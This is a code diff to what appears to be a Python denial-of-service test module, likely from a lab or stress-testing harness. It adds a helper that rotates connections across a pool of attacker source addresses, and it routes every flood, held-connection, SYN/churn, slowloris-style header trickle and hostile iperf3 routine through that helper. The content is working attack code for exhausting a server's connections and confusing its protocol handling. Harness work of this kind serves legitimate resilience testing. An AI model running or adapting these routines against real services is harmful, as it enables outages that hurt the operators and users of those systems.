@@ -18,8 +18,9 @@ import time
 from collections import deque
 from collections.abc import Callable, Iterator
 from contextlib import ExitStack, suppress
+from itertools import cycle
 
-from attack_network import FORGED
+from attack_network import ATTACKERS, FORGED
 
 Address = tuple[str, int]
 
@@ -34,6 +35,22 @@ _TRICKLES = 16
 _TIMEOUT_SECONDS = 5.0
 _CHURN_MOST = 200_000
 _SYN, _ACK = 2, 16
+_IP_BIND_ADDRESS_NO_PORT = 24
+_sources = cycle(ATTACKERS)
+
+
+def _connect(to: Address) -> socket.socket:
+    """A connection from the next of the attackers' addresses. Its port is chosen for this destination alone."""
+    made = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    try:
+        made.settimeout(_TIMEOUT_SECONDS)
+        made.setsockopt(socket.IPPROTO_IP, _IP_BIND_ADDRESS_NO_PORT, 1)
+        made.bind((next(_sources), 0))
+        made.connect(to)
+    except OSError:
+        made.close()
+        raise
+    return made
 
 
 def _ended(seconds: float) -> bool:
@@ -80,10 +97,11 @@ def syn(to: Address, _: int) -> dict[str, int]:
 
 
 def _has_ended(connection: socket.socket) -> bool:
-    try:
-        return connection.recv(1, socket.MSG_DONTWAIT) == b""
-    except BlockingIOError:
+    """Whether the other side has ended it; never waits, though the socket has a timeout."""
+    if not select.select([connection], [], [], 0)[0]:
         return False
+    try:
+        return connection.recv(1) == b""
     except OSError:
         return True
 
@@ -98,7 +116,7 @@ def silent(to: Address, _: int) -> dict[str, int]:
             held.remove(connection)
         while len(held) < _SILENT:
             with suppress(OSError):
-                held.append(socket.create_connection(to, timeout=_TIMEOUT_SECONDS))
+                held.append(_connect(to))
             made += 1
     return {"connections": made, "held": len(held)}
 
@@ -112,7 +130,7 @@ def flood(to: Address, _: int) -> dict[str, int]:
     began = time.monotonic()
     while not _ended(began + (made + refused) / _FLOOD_A_SECOND - time.monotonic()):
         try:
-            held.append(socket.create_connection(to, timeout=_TIMEOUT_SECONDS))
+            held.append(_connect(to))
             made += 1
         except OSError:
             refused += 1
@@ -130,7 +148,7 @@ def closes(to: Address, _: int) -> dict[str, int]:
         with ExitStack() as held:
             for _ in range(min(_FLOOD_HELD, most // 2)):
                 try:
-                    held.enter_context(socket.create_connection(to, timeout=_TIMEOUT_SECONDS))
+                    held.enter_context(_connect(to))
                     made += 1
                 except OSError:
                     refused += 1
@@ -148,7 +166,7 @@ def churn(to: Address, count: int) -> dict[str, int]:
         if made % 256 == 0 and _ended(0):
             break
         try:
-            with socket.create_connection(to, timeout=_TIMEOUT_SECONDS) as connection:
+            with _connect(to) as connection:
                 connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
             made += 1
         except OSError:
@@ -169,7 +187,7 @@ def garbage(to: Address, _: int) -> dict[str, int]:
                 reset += 1
             while len(held) < _GARBAGE_CONNECTIONS:
                 try:
-                    made = socket.create_connection(to, timeout=_TIMEOUT_SECONDS)
+                    made = _connect(to)
                     made.sendall(b"!")
                     held[made] = time.monotonic()
                 except OSError:
@@ -217,7 +235,7 @@ def _talk(to: Address, number: int) -> None:
     """One hostile conversation of iperf3."""
     texts = _hostile_json()
     cookie = f"x{number:035d}".encode() + b"\0"
-    with socket.create_connection(to, timeout=_TIMEOUT_SECONDS) as control:
+    with _connect(to) as control:
         control.sendall(cookie)
         if control.recv(1) != b"\x09":
             return
@@ -236,7 +254,7 @@ def _hostile_results(to: Address, control: socket.socket, cookie: bytes, text: b
     good = b'{"tcp":true,"parallel":1}'
     control.sendall(struct.pack(">I", len(good)) + good)
     control.recv(1)
-    with socket.create_connection(to, timeout=_TIMEOUT_SECONDS) as data:
+    with _connect(to) as data:
         data.sendall(cookie + b"z" * 1000)
         control.recv(2)
         control.sendall(b"\x04")
@@ -282,7 +300,7 @@ def heads(to: Address, _: int) -> dict[str, int]:
     began = time.monotonic()
     trickles: list[socket.socket] = []
     while not _ended(began + tried / _HOSTILE_A_SECOND - time.monotonic()):
-        with suppress(OSError), socket.create_connection(to, timeout=_TIMEOUT_SECONDS) as connection:
+        with suppress(OSError), _connect(to) as connection:
             connection.sendall(texts[tried % len(texts)])
             connection.shutdown(socket.SHUT_WR)
             while connection.recv(1 << 12):
@@ -290,7 +308,7 @@ def heads(to: Address, _: int) -> dict[str, int]:
         tried += 1
         while len(trickles) < _TRICKLES:
             with suppress(OSError):
-                trickles.append(socket.create_connection(to, timeout=_TIMEOUT_SECONDS))
+                trickles.append(_connect(to))
                 trickles[-1].sendall(b"PUT /a HTTP/1.1\r\nX: ")
         for connection in list(trickles):
             try:
